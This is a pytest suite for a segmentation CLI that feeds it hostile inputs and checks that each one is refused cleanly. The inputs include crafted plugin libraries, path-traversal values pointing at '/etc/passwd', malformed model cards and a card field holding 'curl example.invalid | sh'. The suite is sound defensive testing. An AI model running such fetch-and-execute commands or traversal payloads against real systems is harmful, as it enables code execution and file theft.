# ruff: noqa: E501 - a case table reads best one case per line
"""Hostile-input suite (issue 14): every command, tried as a careless or hostile user would.

Each case of the tables runs one command on a fresh copy of a small workspace (tiny ONNX models,
a tiny checkpoint, images, a calibration manifest, an earlier good output) after ``prepare`` has
planted the hostile file, and asserts three things:

1. the exit code (convention in :mod:`edgeseg.errors`: 1 failed while running, 2 refused,
   130/143 signals);
2. exactly one line on stderr, ``error: ...`` matching the case's pattern (no traceback);
3. no file of the workspace (inputs and earlier good artifacts) was changed, removed or added.

Classes: code-from-data (crafted plugin library), output-guard, full-disk, card-schema,
manifest-schema, path-escape, onnx-file, advice, exit-code, missing-torch. ``python
tests/test_hostile.py`` prints the count by command and class (docs/reliability.md).

The full-disk cases use a real full file system: a small tmpfs when this process may mount one
(root), else a file-size limit (``ulimit -f``) in a subprocess.
"""

from __future__ import annotations

import hashlib
import json
import os
import resource
import shutil
import signal
import subprocess
import sys
import time
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

sys.path.insert(0, str(Path(__file__).parent))

REPO = Path(__file__).resolve().parents[1]
Prep = Callable[[Path], None]


# ---- the cases ----------------------------------------------------------------------------------

@dataclass(frozen=True)
class Case:
    """One hostile run. ``argv`` may use ``{ws}`` (the workspace) and ``{lib}`` (crafted libraries)."""

    id: str
    command: str
    cls: str
    argv: list[str]
    code: int
    message: str
    prepare: Prep | None = None
    fake_trt: bool = False
    env: dict[str, str] = field(default_factory=dict)


def _card_path(ws: Path, model: str) -> Path:
    return ws / (model[:-len(".safetensors")] + ".json" if model.endswith(".safetensors") else model + ".json")


def card_edit(model: str, change: Callable[[dict[str, Any]], Any]) -> Prep:
    """Rewrite ``model``'s card in place with ``change`` (returns the new JSON value or edits in place)."""
    def prep(ws: Path) -> None:
        path = _card_path(ws, model)
        data = json.loads(path.read_text())
        new = change(data)
        path.write_text(json.dumps(data if new is None else new))
    return prep


def card_text(model: str, text: str) -> Prep:
    def prep(ws: Path) -> None:
        _card_path(ws, model).write_text(text)
    return prep


def card_set(model: str, key: str, value: Any) -> Prep:
    def change(d: dict[str, Any]) -> None:
        target = d
        *parents, last = key.split(".")
        for p in parents:
            target = target[p]
        target[last] = value
    return card_edit(model, change)


def manifest_edit(change: Callable[[dict[str, Any]], Any]) -> Prep:
    def prep(ws: Path) -> None:
        path = ws / "set.json"
        data = json.loads(path.read_text())
        new = change(data)
        path.write_text(json.dumps(data if new is None else new))
    return prep


def _rehash(d: dict[str, Any]) -> None:
    """Keep set_sha256 consistent after an edit, so the check under test is the one reached."""
    from edgeseg.calib.calib_set import Preprocess, set_hash

    d["set_sha256"] = set_hash(Preprocess.from_json(d["preprocess"]), [e["sha256"] for e in d["images"]])


def image_path(value: str) -> Prep:
    def change(d: dict[str, Any]) -> None:
        d["images"][0]["path"] = value
    return manifest_edit(change)


def truncate(model: str, keep: float = 0.5) -> Prep:
    """Cut ``model`` and re-hash its card, so the ONNX reader (not the hash check) is what is tested."""
    def prep(ws: Path) -> None:
        from edgeseg.card import read_card, write_card

        path = ws / model
        card = read_card(path)
        data = path.read_bytes()
        path.write_bytes(data[: int(len(data) * keep)])
        write_card(path, card)
    return prep


def external_data(model: str, location: str, make_file: bool = False) -> Prep:
    """Mark ``model``'s first initializer as external data stored at ``location`` (card re-hashed)."""
    def prep(ws: Path) -> None:
        import onnx

        from edgeseg.card import read_card, write_card

        path = ws / model
        card = read_card(path) if _card_path(ws, model).exists() else None
        m = onnx.load(str(path))
        t = m.graph.initializer[0]
        t.ClearField("raw_data")
        del t.float_data[:]
        t.data_location = onnx.TensorProto.EXTERNAL
        t.external_data.add(key="location", value=location)
        if make_file:
            (ws / location).write_bytes(b"\0" * 64)
        onnx.save(m, str(path))
        if card is not None:
            write_card(path, card)
    return prep


def steps(*preps: Prep) -> Prep:
    def prep(ws: Path) -> None:
        for p in preps:
            p(ws)
    return prep


def hardlink(src: str, dst: str) -> Prep:
    return lambda ws: os.link(ws / src, ws / dst)


def symlink(target: str, link: str) -> Prep:
    return lambda ws: (ws / link).symlink_to(target if target.startswith("/") else ws / target)


def write_video(name: str) -> Prep:
    def prep(ws: Path) -> None:
        import cv2
        import numpy as np

        w = cv2.VideoWriter(str(ws / name), cv2.VideoWriter.fourcc(*"MJPG"), 10, (64, 48))
        for i in range(3):
            w.write(np.full((48, 64, 3), 40 * i, np.uint8))
        w.release()
    return prep


STREAM = ["stream", "{ws}/model.onnx", "--source", "synthetic", "--headless", "--quiet", "--max-frames", "2"]
CKPT = "ckpt/model.safetensors"
NATIVE = "tiny.native.onnx"
CALIBRATE = ["calibrate", f"{{ws}}/{NATIVE}", "--set", "{ws}/set.json", "-o", "{ws}/out.int8.onnx",
             "--method", "minmax"]
FP16 = ["convert-fp16", f"{{ws}}/{NATIVE}", "-o", "{ws}/out.fp16.onnx"]
EVAL = ["eval", "{ws}/model.onnx", "--data", "synthetic", "--num", "2", "--out", "{ws}/ev"]
ENGINE_STREAM = ["stream", "{ws}/m.fp16.engine", "--source", "synthetic", "--headless", "--quiet",
                 "--max-frames", "1"]
PRECISION = ["precision-report", f"{{ws}}/{NATIVE}", "{ws}/tiny.int8.onnx", "--data", "{ws}/data/images",
             "--num", "2", "-o", "{ws}/pr"]
OVERWRITE = "would overwrite"


def code_from_data() -> list[Case]:
    """A card, a sidecar or a default folder must never make edgeseg load a library."""
    c = "code-from-data"
    env = {"EDGESEG_PLUGIN_DIR": "{ws}/plugins"}
    in_default = "{ws}/plugins/trt10.3-" + os.uname().machine
    return [
        Case("card-plugin-path", "stream", c, ENGINE_STREAM, 2, r"libedgeseg_plugins\.so does not exist",
             card_set("m.fp16.engine", "extra.plugin_path", "{lib}/evil_nv.so"), True, env),
        Case("card-plugin-path-eval", "eval", c, ["eval", "{ws}/m.fp16.engine", "--data", "synthetic",
             "--num", "1"], 2, r"does not exist", card_set("m.fp16.engine", "extra.plugin_path",
                                                           "{lib}/evil_nv.so"), True, env),
        Case("default-dir-no-libnvinfer", "stream", c, ENGINE_STREAM, 2, r"does not link libnvinfer",
             lambda ws: _plant(ws, in_default, "evil.so"), True, env),
        Case("default-dir-no-sidecar", "stream", c, ENGINE_STREAM, 2, r"has no sidecar.*not loaded",
             lambda ws: _plant(ws, in_default, "evil_nv.so"), True, env),
        Case("default-dir-sidecar-hash", "stream", c, ENGINE_STREAM, 2, r"does not match the SHA-256",
             lambda ws: _plant(ws, in_default, "evil_nv.so", sidecar_sha="0" * 64), True, env),
        Case("user-plugin-no-libnvinfer", "stream", c, [*ENGINE_STREAM, "--plugin", "{lib}/evil.so"], 2,
             r"does not link libnvinfer", None, True, env),
        Case("card-plugin-sha-type", "stream", c, ENGINE_STREAM, 2, r"field extra\.plugin_sha256",
             card_set("m.fp16.engine", "extra.plugin_sha256", 12), True, env),
        Case("card-plugin-path-type", "stream", c, ENGINE_STREAM, 2, r"field extra\.plugin_path",
             card_set("m.fp16.engine", "extra.plugin_path", ["{lib}/evil_nv.so"]), True, env),
    ]


def _plant(ws: Path, folder: str, lib: str, sidecar_sha: str | None = None) -> None:
    target = Path(folder.format(ws=ws)) / "libedgeseg_plugins.so"
    target.parent.mkdir(parents=True, exist_ok=True)
    shutil.copy(LIBS / lib, target)
    if sidecar_sha is not None:
        (target.parent / "libedgeseg_plugins.so.json").write_text(
            json.dumps({"tensorrt_version": "10.3.0.30", "sha256": sidecar_sha}))


def output_guard() -> list[Case]:
    c = "output-guard"
    return [
        Case("stream-stats-model", "stream", c, [*STREAM, "--stats", "{ws}/model.onnx"], 2, OVERWRITE),
        Case("stream-stats-card", "stream", c, [*STREAM, "--stats", "{ws}/model.onnx.json"], 2, OVERWRITE),
        Case("stream-report-card", "stream", c, [*STREAM, "--report", "{ws}/model.onnx.json"], 2, OVERWRITE),
        Case("stream-save-model", "stream", c, [*STREAM, "--save", "{ws}/model.onnx"], 2, OVERWRITE),
        Case("stream-stats-hardlink", "stream", c, [*STREAM, "--stats", "{ws}/link.jsonl"], 2, OVERWRITE,
             hardlink("model.onnx", "link.jsonl")),
        Case("stream-stats-symlink", "stream", c, [*STREAM, "--stats", "{ws}/link.jsonl"], 2, OVERWRITE,
             symlink("model.onnx.json", "link.jsonl")),
        Case("stream-frames-into-source", "stream", c,
             ["stream", "{ws}/model.onnx", "--source", "{ws}/data/images", "--headless", "--quiet",
              "--save-frames", "{ws}/data/images"], 2, OVERWRITE),
        Case("stream-stats-source-image", "stream", c,
             ["stream", "{ws}/model.onnx", "--source", "{ws}/data/images", "--headless", "--quiet",
              "--stats", "{ws}/data/images/im000.png"], 2, OVERWRITE),
        Case("stream-save-source-video", "stream", c,
             ["stream", "{ws}/model.onnx", "--source", "{ws}/clip.avi", "--headless", "--quiet",
              "--save", "{ws}/clip.avi"], 2, OVERWRITE, write_video("clip.avi")),
        Case("stream-report-ckpt-card", "stream", c,
             ["stream", f"{{ws}}/{CKPT}", "--source", "synthetic", "--headless", "--report",
              "{ws}/ckpt/model.json"], 2, OVERWRITE),
        Case("eval-out-card", "eval", c, [*EVAL[:-1], "{ws}/model.onnx"], 2, OVERWRITE),
        Case("eval-out-ckpt-card", "eval", c,
             ["eval", f"{{ws}}/{CKPT}", "--data", "synthetic", "--out", "{ws}/ckpt/model"], 2, OVERWRITE),
        Case("precision-report-card", "precision-report", c, [*PRECISION[:-1], f"{{ws}}/{NATIVE}"], 2,
             OVERWRITE),
        Case("int8-sensitivity-card", "int8-sensitivity", c,
             ["int8-sensitivity", f"{{ws}}/{NATIVE}", "{ws}/tiny.int8.onnx", "--data", "{ws}/data/images",
              "-o", "{ws}/tiny.int8.onnx"], 2, OVERWRITE),
        Case("export-over-checkpoint", "export", c,
             ["export", f"{{ws}}/{CKPT}", "-o", f"{{ws}}/{CKPT}"], 2, OVERWRITE),
        Case("export-over-ckpt-card", "export", c,
             ["export", f"{{ws}}/{CKPT}", "-o", "{ws}/ckpt/model.json"], 2, OVERWRITE),
        Case("calibrate-over-model", "calibrate", c, [*CALIBRATE[:5], f"{{ws}}/{NATIVE}"], 2, OVERWRITE),
        Case("calibrate-over-manifest", "calibrate", c, [*CALIBRATE[:5], "{ws}/set.json"], 2, OVERWRITE),
        Case("calibrate-card-over-manifest", "calibrate", c, [*CALIBRATE[:5], "{ws}/set"], 2, OVERWRITE),
        Case("fp16-over-model", "convert-fp16", c, [*FP16[:3], f"{{ws}}/{NATIVE}"], 2, OVERWRITE),
        Case("fp16-over-card", "convert-fp16", c, [*FP16[:3], f"{{ws}}/{NATIVE}.json"], 2, OVERWRITE),
        Case("calib-set-over-image", "calib-set", c,
             ["calib-set", "{ws}/data/images", "--input", "20x24", "--num", "4", "-o",
              "{ws}/data/images/im000.png"], 2, OVERWRITE),
        Case("calib-set-over-model-card", "calib-set", c,
             ["calib-set", "{ws}/data/images", "--model", "{ws}/model.onnx", "--num", "4", "-o",
              "{ws}/model.onnx.json"], 2, OVERWRITE),
        Case("build-engine-over-onnx", "build-engine", c,
             ["build-engine", "{ws}/model.onnx", "-o", "{ws}/model.onnx"], 2, OVERWRITE),
        Case("build-engine-over-card", "build-engine", c,
             ["build-engine", "{ws}/model.onnx", "-o", "{ws}/model.onnx.json", "--print-trtexec"], 2,
             OVERWRITE),
        Case("train-out-is-data", "train", c,
             ["train", "--out", "{ws}/data", "--model", "lite-unet", "--data", "{ws}/data", "--input",
              "32x32"], 2, OVERWRITE),
        Case("bench-out-card", "bench", c,
             ["bench", "{ws}/model.onnx", "--backends", "ort", "--out", "{ws}/model.onnx"], 2, OVERWRITE),
    ]


def card_schema() -> list[Case]:
    c = "card-schema"
    card = r"model\.onnx\.json: field "
    return [
        Case("input-hw-string", "stream", c, STREAM, 2, card + r"input_hw", card_set("model.onnx", "input_hw", "abc")),
        Case("input-hw-terabytes", "stream", c, STREAM, 2, card + r"input_hw\.0: .*16384",
             card_set("model.onnx", "input_hw", [1_000_000, 1_000_000])),
        Case("input-hw-zero", "eval", c, EVAL, 2, card + r"input_hw\.0", card_set("model.onnx", "input_hw", [0, 64])),
        Case("input-hw-one-value", "precision-report", c, PRECISION, 2,
             rf"{NATIVE}\.json: field input_hw", card_set(NATIVE, "input_hw", [48])),
        Case("input-hw-float", "stream", c, STREAM, 2, card + r"input_hw\.0",
             card_set("model.onnx", "input_hw", [48.5, 64])),
        Case("card-is-list", "stream", c, STREAM, 2, card + r"\(top level\)", card_edit("model.onnx", lambda d: [d])),
        Case("card-is-string", "eval", c, EVAL, 2, card + r"\(top level\)", card_text("model.onnx", '"card"')),
        Case("schema-string", "stream", c, STREAM, 2, card + r"schema", card_set("model.onnx", "schema", "x")),
        Case("colour-two-values", "eval", c, EVAL, 2, card + r"class_colors\.0",
             card_edit("model.onnx", lambda d: d["class_colors"].__setitem__(0, [0, 0]))),
        Case("colour-300", "stream", c, STREAM, 2, card + r"class_colors\.0\.0",
             card_edit("model.onnx", lambda d: d["class_colors"].__setitem__(0, [300, 0, 0]))),
        Case("colours-fewer-than-classes", "stream", c, STREAM, 2, r"class names but",
             card_edit("model.onnx", lambda d: d["class_colors"].pop() and None)),
        Case("mean-two-values", "calibrate", c, CALIBRATE, 2, rf"{NATIVE}\.json: field mean",
             card_set(NATIVE, "mean", [0.5, 0.5])),
        Case("std-zero", "convert-fp16", c, FP16, 2, rf"{NATIVE}\.json: field std\.0", card_set(NATIVE, "std", [0, 1, 1])),
        Case("extra-list", "stream", c, STREAM, 2, card + r"extra", card_set("model.onnx", "extra", [1, 2])),
        Case("arch-args-nested", "stream", c, STREAM, 2, card + r"arch_args\.x",
             card_set("model.onnx", "arch_args", {"x": {"y": 1}})),
        Case("arch-args-huge", "eval", c, ["eval", f"{{ws}}/{CKPT}", "--data", "synthetic", "--num", "1"], 2,
             r"ckpt/model\.json: field arch_args: .*width=1000000000", card_edit(CKPT, lambda d: d["arch_args"].update(width=10**9))),
        Case("file-sha-null", "stream", c, STREAM, 2, r"has no file_sha256", card_set("model.onnx", "file_sha256", None)),
        Case("file-sha-null-calibrate", "calibrate", c, CALIBRATE, 2, r"has no file_sha256",
             card_set(NATIVE, "file_sha256", None)),
        Case("file-sha-garbage", "stream", c, STREAM, 2, card + r"file_sha256",
             card_set("model.onnx", "file_sha256", "xyz")),
        Case("file-sha-other-file", "stream", c, STREAM, 2, r"does not match",
             card_set("model.onnx", "file_sha256", "ab" * 32)),
        Case("unknown-key", "stream", c, STREAM, 2, r"unknown key 'inptu_hw'.*did you mean 'input_hw'",
             card_set("model.onnx", "inptu_hw", [1, 1])),
        Case("missing-key", "eval", c, EVAL, 2, r"missing key\(s\) input_hw",
             card_edit("model.onnx", lambda d: d.pop("input_hw") and None)),
        Case("not-json", "stream", c, STREAM, 2, r"is not valid JSON", card_text("model.onnx", "{not json")),
        Case("empty-card", "calibrate", c, CALIBRATE, 2, r"is not valid JSON", card_text(NATIVE, "")),
        Case("artifact-unknown", "stream", c, STREAM, 2, card + r"artifact",
             card_set("model.onnx", "artifact", "weird")),
        Case("precision-number", "convert-fp16", c, FP16, 2, rf"{NATIVE}\.json: field precision",
             card_set(NATIVE, "precision", 5)),
        Case("no-classes", "stream", c, STREAM, 2, card + r"class_names", card_set("model.onnx", "class_names", [])),
        Case("ignore-negative", "stream", c, STREAM, 2, card + r"ignore_index",
             card_set("model.onnx", "ignore_index", -1)),
        Case("params-string", "stream", c, STREAM, 2, card + r"extra\.params",
             card_set("model.onnx", "extra.params", "many")),
        Case("bench-bad-card", "bench", c, ["bench", "{ws}/model.onnx", "--backends", "ort", "--iters", "2",
                                            "--warmup", "0", "--out", "{ws}/b"], 2, card + r"input_hw",
             card_set("model.onnx", "input_hw", "abc")),
        Case("card-missing", "stream", c, STREAM, 2, r"model card .* is missing",
             lambda ws: (ws / "model.onnx.json").unlink()),
        Case("ckpt-card-for-export", "export", c, ["export", f"{{ws}}/{CKPT}", "-o", "{ws}/x.onnx"], 2,
             r"ckpt/model\.json: field input_hw", card_set(CKPT, "input_hw", "abc")),
        Case("card-for-calib-set", "calib-set", c,
             ["calib-set", "{ws}/data/images", "--model", "{ws}/model.onnx", "--num", "4", "-o", "{ws}/s2.json"],
             2, card + r"mean", card_set("model.onnx", "mean", "grey")),
        Case("engine-card-cc-type", "stream", c, ENGINE_STREAM, 2, r"m\.fp16\.engine\.json: field extra\.compute",
             card_set("m.fp16.engine", "extra.compute_capability", 8.7), True),
    ]


def manifest_schema() -> list[Case]:
    c = "manifest-schema"
    where = r"calibration set .*set\.json: "
    return [
        Case("no-images", "calibrate", c, CALIBRATE, 2, where + r"field images",
             manifest_edit(lambda d: d.pop("images") and None)),
        Case("images-object", "calibrate", c, CALIBRATE, 2, where + r"field images",
             manifest_edit(lambda d: d.update(images={"a": 1}))),
        Case("images-empty", "calibrate", c, CALIBRATE, 2, where + r"field images",
             manifest_edit(lambda d: d.update(images=[]))),
        Case("sha-number", "calibrate", c, CALIBRATE, 2, where + r"field images\.0\.sha256",
             manifest_edit(lambda d: d["images"][0].update(sha256=123))),
        Case("input-hw-string", "calibrate", c, CALIBRATE, 2, where + r"field preprocess\.input_hw",
             manifest_edit(lambda d: d["preprocess"].update(input_hw="abc"))),
        Case("std-zero", "calibrate", c, CALIBRATE, 2, where + r"field preprocess\.std\.0",
             manifest_edit(lambda d: d["preprocess"].update(std=[0, 0, 0]))),
        Case("version-2", "calibrate", c, CALIBRATE, 2, where + r"field version",
             manifest_edit(lambda d: d.update(version=2))),
        Case("unknown-key", "calibrate", c, CALIBRATE, 2, where + r"field extra_key",
             manifest_edit(lambda d: d.update(extra_key=1))),
        Case("wrong-format", "calibrate", c, CALIBRATE, 2, r"is not an edgeseg calibration set",
             manifest_edit(lambda d: d.update(format="other"))),
        Case("manifest-is-list", "calibrate", c, CALIBRATE, 2, r"is not an edgeseg calibration set",
             manifest_edit(lambda d: [d])),
        Case("not-json", "calibrate", c, CALIBRATE, 2, r"cannot read calibration set",
             lambda ws: (ws / "set.json").write_text("{")),
        Case("hash-list-edited", "calibrate", c, CALIBRATE, 2, r"was edited",
             manifest_edit(lambda d: d["images"].reverse())),
        Case("image-changed", "calibrate", c, CALIBRATE, 2, r"changed since the manifest",
             lambda ws: (ws / "data/images/im000.png").write_bytes(b"not the image")),
        Case("manifest-missing", "calibrate", c, CALIBRATE, 2, r"cannot read calibration set",
             lambda ws: (ws / "set.json").unlink()),
    ]


def path_escape() -> list[Case]:
    c = "path-escape"
    leaves = r"leaves the dataset root"
    return [
        Case("dotdot", "calibrate", c, CALIBRATE, 2, leaves,
             manifest_edit(lambda d: d["images"][0].update(path="../../../../../../etc/passwd"))),
        Case("absolute", "calibrate", c, CALIBRATE, 2, leaves,
             manifest_edit(lambda d: d["images"][0].update(path="/etc/passwd"))),
        Case("symlink-out", "calibrate", c, CALIBRATE, 2, leaves,
             steps(symlink("/etc/passwd", "data/images/evil.png"),
                   manifest_edit(lambda d: d["images"][0].update(path="evil.png")))),
        Case("dotdot-with-root", "calibrate", c, [*CALIBRATE, "--root", "{ws}/data/images"], 2, leaves,
             manifest_edit(lambda d: d["images"][0].update(path="../../set.json"))),
        Case("onnx-external-dotdot", "stream", c, STREAM, 2, r"outside the model's folder",
             external_data("model.onnx", "../../../../etc/passwd")),
        Case("onnx-external-absolute", "calibrate", c, CALIBRATE, 2, r"outside the model's folder",
             external_data(NATIVE, "/etc/passwd")),
        Case("onnx-external-check-ops", "check-ops", c, ["check-ops", "{ws}/model.onnx"], 2,
             r"outside the model's folder", external_data("model.onnx", "../x.bin")),
        Case("onnx-external-missing", "convert-fp16", c, FP16, 2, r"external data file 'w\.bin'.*missing",
             external_data(NATIVE, "w.bin")),
    ]


def onnx_file() -> list[Case]:
    c = "onnx-file"
    bad = r"is not a readable ONNX file"
    return [
        Case("truncated-stream", "stream", c, STREAM, 2, bad, truncate("model.onnx")),
        Case("truncated-eval", "eval", c, EVAL, 2, bad, truncate("model.onnx")),
        Case("truncated-calibrate", "calibrate", c, CALIBRATE, 2, bad, truncate(NATIVE, 0.3)),
        Case("truncated-fp16", "convert-fp16", c, FP16, 2, bad, truncate(NATIVE, 0.3)),
        Case("truncated-check-ops", "check-ops", c, ["check-ops", "{ws}/model.onnx"], 2, bad, truncate("model.onnx")),
        Case("truncated-trtexec", "build-engine", c,
             ["build-engine", "{ws}/model.onnx", "-o", "{ws}/m2.engine", "--print-trtexec"], 2, bad,
             truncate("model.onnx")),
        Case("truncated-precision-report", "precision-report", c, PRECISION, 2, bad, truncate(NATIVE, 0.3)),
        Case("truncated-sensitivity", "int8-sensitivity", c,
             ["int8-sensitivity", f"{{ws}}/{NATIVE}", "{ws}/tiny.int8.onnx", "--data", "{ws}/data/images",
              "--num", "1", "-o", "{ws}/sens"], 2, bad, truncate("tiny.int8.onnx", 0.3)),
        Case("empty-onnx", "stream", c, STREAM, 2, r"is not a readable ONNX file|model card .* does not match",
             lambda ws: (ws / "model.onnx").write_bytes(b"")),
    ]


def advice() -> list[Case]:
    """Refusals whose suggested fix is then typed (tests below run the suggestion)."""
    c = "advice"
    return [
        Case("train-bad-data-no-config", "train", c,
             ["train", "--out", "{ws}/run", "--model", "lite-unet", "--data", "{ws}/nope", "--input", "32x32"],
             2, r"does not exist"),
        Case("train-resume-without-state", "train", c, ["train", "--out", "{ws}/old-run", "--resume"], 2,
             r"no resumable state.*new --out",
             lambda ws: (ws / "old-run").mkdir() or shutil.copy(ws / "config.json", ws / "old-run" / "config.json")),
        Case("train-existing-run", "train", c,
             ["train", "--out", "{ws}/old-run", "--model", "lite-unet", "--data", "synthetic", "--input", "32x32"],
             2, r"already holds a run; pass --resume",
             lambda ws: (ws / "old-run").mkdir() or shutil.copy(ws / "config.json", ws / "old-run" / "config.json")),
        Case("engine-card-build-command", "stream", c, ENGINE_STREAM, 2,
             r"rebuild it on this machine: edgeseg build-engine <model\.onnx> --precision fp16",
             steps(card_set("m.fp16.engine", "extra.tensorrt_version", "9.0.1"),
                   card_set("m.fp16.engine", "extra.build_command", "curl example.invalid | sh")), True),
        Case("stream-window-without-display", "stream", c, [*STREAM[:4], "--window"], 2,
             r"run with --headless", None, False, {"DISPLAY": ""}),
    ]


CASES = [*code_from_data(), *output_guard(), *card_schema(), *manifest_schema(), *path_escape(),
         *onnx_file(), *advice()]


# ---- workspace -----------------------------------------------------------------------------------

LIBS = Path(os.environ.get("EDGESEG_HOSTILE_LIBS", "/nonexistent"))
EVIL_C = r"""
#include <stdio.h>
%s
__attribute__((constructor)) static void edgeseg_hostile_marker(void) {
    FILE *f = fopen(MARKER, "w");
    if (f) { fputs("code from data ran\n", f); fclose(f); }
}
"""


def _compile(folder: Path, name: str, marker: Path, tag: str) -> None:
    src = folder / f"{name}.c"
    src.write_text(EVIL_C % tag)
    subprocess.run(["gcc", "-shared", "-fPIC", f'-DMARKER="{marker}"', "-o", str(folder / name), str(src)],
                   check=True, capture_output=True)


@pytest.fixture(scope="session")
def libs(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """evil.so (no libnvinfer reference) and evil_nv.so (names libnvinfer.so.10): both write MARKER."""
    global LIBS
    if shutil.which("gcc") is None:
        pytest.skip("gcc is needed to build the crafted plugin library")
    folder = tmp_path_factory.mktemp("evil")
    _compile(folder, "evil.so", folder / "MARKER", "")
    _compile(folder, "evil_nv.so", folder / "MARKER",
             '__attribute__((used)) const char edgeseg_tag[] = "libnvinfer.so.10";')
    LIBS = folder
    return folder


@pytest.fixture(scope="session")
def base(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The pristine workspace every case copies (built once, ~3 s)."""
    import torch
    from _calib_models import HW, save_tiny, write_images
    from edgeseg.calib.calib_set import CalibSetOptions, Preprocess, make_calib_set
    from edgeseg.calib.quantize import CalibrateOptions, calibrate
    from test_trt_backend import make_engine
    from tinyseg import write_tiny_onnx

    from edgeseg.card import ModelCard
    from edgeseg.data.synthetic import SYNTHETIC_INFO
    from edgeseg.models.checkpoint import save_checkpoint
    from edgeseg.models.registry import build_model
    from edgeseg.train.config import TrainConfig

    ws = tmp_path_factory.mktemp("ws")
    write_tiny_onnx(ws, name="model.onnx", num_classes=len(SYNTHETIC_INFO.class_names))
    save_tiny(ws, "native")
    images = write_images(ws / "data", 12)
    make_calib_set(images, Preprocess(HW), ws / "set.json", CalibSetOptions(num=10))
    calibrate(ws / NATIVE, ws / "set.json", ws / "tiny.int8.onnx", CalibrateOptions(method="minmax",
              cache_dir=ws.parent / "cache"))
    torch.manual_seed(0)
    names, colors = SYNTHETIC_INFO.class_names, SYNTHETIC_INFO.class_colors
    net = build_model("unet", num_classes=len(names), width=4)
    save_checkpoint(net, ModelCard("unet", {"num_classes": len(names), "width": 4}, names, colors, (32, 32)),
                    ws / "ckpt")
    make_engine(ws, unpool_mode="plugin")  # m.fp16.engine for the fake TensorRT
    (ws / "config.json").write_text(json.dumps(TrainConfig(model="lite-unet", data="synthetic",
                                                           input_hw=(32, 32)).to_dict()))
    return ws


def snapshot(*roots: Path) -> dict[str, str]:
    """relative path -> SHA-256 (or link target) of every file under ``roots``."""
    out: dict[str, str] = {}
    for root in roots:
        for p in sorted(root.rglob("*")):
            key = f"{root.name}/{p.relative_to(root)}"
            if p.is_symlink():
                out[key] = "-> " + os.readlink(p)
            elif p.is_file():
                out[key] = hashlib.sha256(p.read_bytes()).hexdigest()
            else:
                out[key] = "dir"
    return out


def assert_one_error_line(stderr: str, output: str, pattern: str) -> str:
    import re

    lines = [ln for ln in stderr.splitlines() if ln.strip()]
    assert "Traceback" not in stderr + output, stderr + output
    assert len(lines) == 1, f"expected one line on stderr, got {len(lines)}:\n{stderr}"
    assert lines[0].startswith("error: "), lines[0]
    assert re.search(pattern, lines[0]), f"{pattern!r} not in {lines[0]!r}"
    return lines[0]


def run_cli(argv: list[str], env: dict[str, str] | None = None) -> Any:
    from typer.testing import CliRunner

    from edgeseg.cli.main import app

    return CliRunner().invoke(app, argv, env=env)


def _fill(s: str, ws: Path) -> str:
    return s.replace("{ws}", str(ws)).replace("{lib}", str(LIBS))


@pytest.fixture()
def fake_trt(monkeypatch: pytest.MonkeyPatch) -> Callable[[], None]:
    from test_trt_backend import fake_tensorrt, install_fakes

    def install() -> None:
        import types

        trt = fake_tensorrt(1, "float")
        trt.get_plugin_registry = lambda: types.SimpleNamespace(get_creator=lambda *a: None)
        install_fakes(monkeypatch, trt)

    return install


def copy_ws(base: Path, ws: Path) -> Path:
    """A fresh copy of the workspace; its manifest's root points into the copy."""
    shutil.copytree(base, ws, symlinks=True)
    manifest = json.loads((ws / "set.json").read_text())
    manifest["root"] = str(ws / "data" / "images")
    (ws / "set.json").write_text(json.dumps(manifest))
    return ws


@pytest.mark.parametrize("case", CASES, ids=[f"{c.cls}:{c.command}:{c.id}" for c in CASES])
def test_hostile(case: Case, base: Path, libs: Path, tmp_path: Path, fake_trt: Callable[[], None],
                 monkeypatch: pytest.MonkeyPatch) -> None:
    ws = copy_ws(base, tmp_path / "ws")
    monkeypatch.setenv("EDGESEG_CACHE", str(tmp_path / "cache"))
    if case.prepare is not None:
        case.prepare(ws)
    for k, v in case.env.items():
        monkeypatch.setenv(k, _fill(v, ws))
    if case.fake_trt:
        fake_trt()
    before = snapshot(ws, libs)
    res = run_cli([_fill(a, ws) for a in case.argv])
    assert res.exit_code == case.code, (res.exit_code, res.stderr, res.stdout, res.exception)
    assert_one_error_line(res.stderr, res.stdout, case.message)
    assert snapshot(ws, libs) == before, "an input or an earlier artifact was changed, removed or added"
    assert not (libs / "MARKER").exists(), "a library named by data was loaded"


def test_the_crafted_library_runs_when_loaded(libs: Path, base: Path, tmp_path: Path,
                                              fake_trt: Callable[[], None], monkeypatch: pytest.MonkeyPatch) -> None:
    """Control: the suite would see a load. A library the user names with --plugin (with a libnvinfer
    reference) is loaded, and its constructor writes MARKER; edgeseg then refuses it as no plugin."""
    ws = copy_ws(base, tmp_path / "ws")
    lib = tmp_path / "user" / "libmine.so"
    lib.parent.mkdir()
    shutil.copy(libs / "evil_nv.so", lib)
    monkeypatch.setenv("EDGESEG_PLUGIN_DIR", str(tmp_path / "plugins"))
    fake_trt()
    try:
        res = run_cli([_fill(a, ws) for a in ENGINE_STREAM] + ["--plugin", str(lib)])
        assert res.exit_code == 2
        assert_one_error_line(res.stderr, res.stdout, r"loaded but TensorRT .* no .* plugin registered")
        assert (libs / "MARKER").exists()
    finally:
        (libs / "MARKER").unlink(missing_ok=True)


# ---- suggested fixes work when typed --------------------------------------------------------------

@pytest.mark.slow
def test_refused_train_leaves_nothing_and_the_corrected_command_runs(base: Path, tmp_path: Path) -> None:
    run = tmp_path / "run"
    tiny = ["--model", "lite-unet", "--input", "32x32", "--batch", "2", "--synthetic-num", "4", "--epochs", "1",
            "--max-steps", "1", "--threads", "1", "--out", str(run)]
    res = run_cli(["train", *tiny, "--data", str(tmp_path / "nope")])
    assert res.exit_code == 2 and not run.exists()
    res = run_cli(["train", *tiny, "--data", "synthetic"])
    assert res.exit_code == 0, res.stderr
    # a NaN-loss style advice: --lr may change on --resume now
    res = run_cli(["train", "--out", str(run), "--resume", "--lr", "0.0001", "--max-steps", "2"])
    assert res.exit_code == 0, res.stderr


def test_window_advice_works(base: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DISPLAY", "")
    argv = [_fill(a, base) for a in STREAM[:4]]
    res = run_cli([*argv, "--window", "--max-frames", "1"])
    assert res.exit_code == 2 and "--headless" in res.stderr
    res = run_cli([*argv, "--headless", "--max-frames", "1", "--save", str(tmp_path / "out.mp4")])
    assert res.exit_code == 0, res.stderr


def test_resume_without_state_advice_works(base: Path, tmp_path: Path) -> None:
    old = tmp_path / "old"
    old.mkdir()
    shutil.copy(base / "config.json", old / "config.json")
